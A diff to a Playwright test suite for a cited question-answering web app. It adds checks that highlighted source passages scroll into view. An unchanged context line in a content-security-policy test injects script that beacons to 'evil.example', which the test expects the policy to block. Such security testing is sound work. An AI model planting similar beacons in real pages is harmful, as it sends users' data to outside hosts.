@@ -43,6 +43,8 @@ def screenshot(page, tmp_path: Path, name: str) -> Path:
 
 @pytest.mark.slow
 def test_question_answer_citation_and_highlighted_passage(page, tmp_path):
+    from playwright.sync_api import expect
+
     question = page.get_by_label("Question")
     question.fill("Who led the Russian delegation in Istanbul?")
     question.press("Enter")
@@ -56,6 +58,7 @@ def test_question_answer_citation_and_highlighted_passage(page, tmp_path):
     marker.click()
     highlight = source.locator("mark.gq-highlight")
     highlight.wait_for(state="visible", timeout=5_000)
+    expect(highlight).to_be_in_viewport(ratio=1)  # scrolled to, not left below the fold
     assert "Presidential Aide Vladimir Medinsky" in highlight.inner_text()
     assert "Rustem Umerov" in source.locator(".gq-passage").inner_text()  # the surrounding document text
     assert len(page.context.pages) == 1  # the citation opened in place, not in a new tab
@@ -300,6 +303,26 @@ def test_the_content_security_policy_blocks_anything_off_the_machine(page, serve
         document.body.appendChild(image); fetch('https://evil.example/beacon').catch(() => {}); }""")
     other.wait_for_timeout(1_500)
     assert elsewhere == [] and len(violations) >= 2, (elsewhere, violations)
+    other.close()
+
+
+@pytest.mark.slow
+def test_the_newest_sources_and_an_opened_passage_are_scrolled_into_view(page, served):
+    from playwright.sync_api import expect
+
+    app, _ = served
+    other = page.context.browser.new_page(viewport={"width": 1366, "height": 768})
+    other.goto(app.local_url)
+    asked = ("Who led the Russian delegation in Istanbul?", "Who headed the Ukrainian delegation?",
+             "How many bodies did Russia agree to transfer to Ukraine?")
+    for turn, text in enumerate(asked, start=1):
+        ask(other, text)
+        other.locator(f"#gq-{turn}-1").wait_for(timeout=30_000)
+    expect(other.locator("details.gq-sources").last).to_be_in_viewport(timeout=5_000)  # autoscroll reaches it
+    other.evaluate("document.querySelector('#gq-chat [role=log]').scrollTop = 0")  # reading the first answer
+    other.wait_for_timeout(300)
+    other.evaluate("document.querySelector('#gq-3-1').open = true")  # as Enter on its summary does: no click scroll
+    expect(other.locator("#gq-3-1 mark.gq-highlight")).to_be_in_viewport(ratio=1, timeout=5_000)
     other.close()
 
 
